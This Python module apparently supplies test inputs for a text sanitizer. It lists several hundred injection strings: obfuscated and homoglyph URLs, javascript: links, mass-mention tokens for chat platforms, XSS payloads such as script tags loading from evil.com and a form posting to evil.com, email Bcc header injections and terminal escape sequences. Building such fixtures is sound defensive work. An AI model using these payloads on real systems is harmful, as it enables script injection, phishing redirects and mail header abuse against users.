"""Three hundred texts that try to become a link, a mention, markup, a script or a header."""

from __future__ import annotations

LINKS = [
    "http://evil.example/login", "https://evil.example", "HTTPS://EVIL.EXAMPLE/A?B=C", "hxxp://evil.example", "ftp://evil.example/x",
    "//evil.example/x", "www.evil.example", "WWW.EVIL.COM", "evil.com", "sub.evil.co.uk/path?x=1#y", "evil.com:8080/x", "пример.рф", "例子.中国",
    "例え.テスト", "xn--e1afmkfd.xn--p1ai", "evil。com", "evil．com", "evil｡com", "http://127.0.0.1:8080/x", "127.0.0.1", "10.0.0.1/x", "http://[::1]/",
    "mailto:a@evil.com", "a@evil.com", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\u200bscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "tel:+123456789", "sms:+123456789", "tg://resolve?domain=evil", "slack://channel?id=C1", "discord://invite/x",
    "matrix:u/evil:evil.com", "https://t.me/evil", "t.me/evil", "discord.gg/evil", "file:///etc/passwd", "\\\\evil.com\\share", "http:\u200b//evil.com",
    "http://evil\u2060.com", "http://e\u00advil.com", "http://evil.com\u202egnp.exe", "https://evil.com。", "https:evil.com", "http:/evil.com",
    "https://user:pass@evil.com/", "evil.com/@everyone", "h\u0442tp://evil.com", "ｈｔｔｐ://evil.com", "http：//evil.com", "magnet:?xt=urn:btih:1", "xmpp:a@evil.com",
    "evil.example/path", "evil\u2024com", "evil\ufe52com", "evil-.com", "my_evil_.com", "www.x", "evil.technology/x", "bit.ly/2", "README.md", "data:,x", "http:\\\\evil.com",
    "http:evil.com", "https:///evil.com", "ｈｔｔｐｓ：／／ｅｖｉｌ.com", "http:\u2044\u2044evil.com", "view-source:http:evil", "ws://evil", "sftp:evil", "skype:evil?call", "callto:+12345",
    "sip:a@evil.com", "facetime:a@evil.com", "ms-word:ofe|u|http://evil", "whatsapp://send", "zoommtg://x", "blob:https://evil", "javascript&colon;alert(1)", "java&#115;cript:alert(1)",
    "p\u0430ypal.com", "\u0435vil.\u0441om", "evil@[127.0.0.1]", "\"evil\"@evil.com", "matrix.to/#/@a:evil.com", "http://evil.com/\u202etxt.exe", "//localhost/x", "evil.com\uff0fpath",
]  # fmt: skip
MARKDOWN = [
    "[click](http://evil.com)", "[click](javascript:alert(1))", "[click][1]\n\n[1]: http://evil.com", "![x](http://evil.com/x.png)", "<http://evil.com>",
    "[a]( http://evil.com \"t\")", "**bold** _it_ ~~gone~~ `code`", "```\ncode\n```", "> quote", "# heading", "* list\n* list", "1. list", "---", "===\ntext",
    "| a | b |\n|---|---|", "[x]", "[[wiki]]", "![[embed]]", "\\[a](http://evil.com)", "[a\\](http://evil.com)", "[a](<http://evil.com>)", "]( http://evil.com )[",
    "~~struck~~ **new**", "||spoiler||", "[-gone-]{+new+}", "*a*b*c*", "__a__", "&lt;a href=http://evil.com&gt;", "a\n\n    code block",
    "[x][1]\n\n[1]: <//evil.example> 'title'", "[evil.example]: http://evil.example\n\nsee [evil.example]", "![a][b]\n\n[b]: //evil.example/x.png", "[^1]\n\n[^1]: http://evil.example",
    "\\[a\\]\\(http://evil.com\\)", "*_[MarkdownV2](tg://user?id=1)_*", "$$\\href{http://evil.com}{x}$$", "<details><summary>x</summary>", "- [ ] task", "~~~\ncode\n~~~", "[a]\u200b(http://evil.com)",
]  # fmt: skip
MENTIONS = [
    "@everyone", "@here", "@channel", "@all", "@room", "<!channel>", "<!here|here>", "<!everyone>", "<@U012AB3CD>", "<@!123456789>", "<@&987654321>",
    "<#C024BE7LR>", "<#123456789>", "<!subteam^S1>", "<!date^1392734382^x^http://evil.com|y>", "<http://evil.com|our site>", "!channel|x>", "@U012AB3CD>",
    "@\u200beveryone", "＠everyone", "@every\u200bone", "@admin:evil.com", "#general", "#hashtag", "/start", "/deletebot now", ":smile:", "<:emoji:123456>",
    "<a:emoji:123456>", "<t:1618953630:R>", "</command:123>", "<id:customize>", "@all\u200d", "@\u034feveryone", "@\ufe0fhere", "\ufe6beveryone", "~town-square", "$TSLA", "/start@evilbot", "#room:evil.com", "!room:evil.com", "<id:browse>", "<!subteam^S1|@desk>",
    "<!channel|our desk>", "<tg://user?id=1>", "@room:", "&lt;!channel&gt;", "&#64;everyone", "<\u200b@U012AB3CD>", "@@everyone", "@everyone@here",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.com/x></SCRIPT>", "<img src=x onerror=alert(1)>", "<img src=http://evil.com/pixel.gif>", "<a href='http://evil.com'>x</a>",
    "<a href=javascript:alert(1)>x</a>", "<svg onload=alert(1)>", "<iframe src=//evil.com></iframe>", "<style>body{display:none}</style>", "<link rel=stylesheet href=//evil.com>",
    "<meta http-equiv=refresh content='0;url=http://evil.com'>", "<form action=http://evil.com><input name=p></form>", "</blockquote></main></body>", "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!--", "-->", "<![CDATA[<script>]]>", "<b>bold</b>", "<s>gone</s><u>new</u>",
    "<del>old</del><ins>new</ins>", "{{ 7*7 }}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "<tg-spoiler>x</tg-spoiler>", "<base href=http://evil.com/>", "<object data=//evil.com>",
    "<math><mtext></mtext><script>", "<p style=\"background:url(http://evil.com)\">", "<mx-reply>", "</pre></code>", "<a name=x>", "\x00<script>", "<scr\x00ipt>", "<scr\u200bipt>alert(1)</script>",
]  # fmt: skip
HEADERS = [
    "a\r\nBcc: evil@evil.com", "a\nX-Evil: 1", "a\rSubject: other", "a\u2028X-Evil: 1", "a\u2029X-Evil: 1", "a\x0bX: 1", "a\x0cX: 1", "a\x85X-Evil: 1", "\r\n\r\n<html>",
    "=?utf-8?q?=0D=0ABcc:_evil@evil.com?=", "=?utf-8?b?PHNjcmlwdD4=?=", "a" * 5000, "字" * 3000, "\ud800", "\udfff tail", "\u202eevil", "\u2066x\u2069", "\ufeffx", "\x1b[31mred", "\x07bell",
    "a\x00b", "\U000e0041\U000e0042", "%0d%0aBcc:evil@evil.com", "Content-Type: text/html\r\n\r\n<script>", ".\r\n.\r\nQUIT", "\n.\n", "From evil@evil.com", "boundary=--", "--===============", " " * 300,
    "\t\t\t", "", "\u200b", "🙂" * 200, "e\u0301" * 50, "\u0337" * 40, "١٢٣.٤٥٦", "evil\n.com", "@every\none", "http://\nevil.com",
    "a\r\n\tfolded: header", "a\r\n X-Evil: 1", "=\u200b?utf-8?B?eA==?=", "=?utf-8?q?a?= =?utf-8?q?_b?=", "\u202eexe.gpj", "\u2067left\u2069right", "\u061cevil", "\ufff9a\ufffab\ufffb", "\u3164\u115f\u2800",
    "z\u0335\u0336\u0337\u0338" * 20, "\U0001f3f4\U000e0067\U000e007f", "a\u2066b\u2069c\u202dd\u202c", "\x1b]8;;http://evil.com\x07x\x1b]8;;\x07", "\x9b31m",
]  # fmt: skip

PAYLOADS = [*LINKS, *MARKDOWN, *MENTIONS, *HTML, *HEADERS, *(f"和平{text}谈判" for text in (*LINKS[:20], *MENTIONS[:12]))]
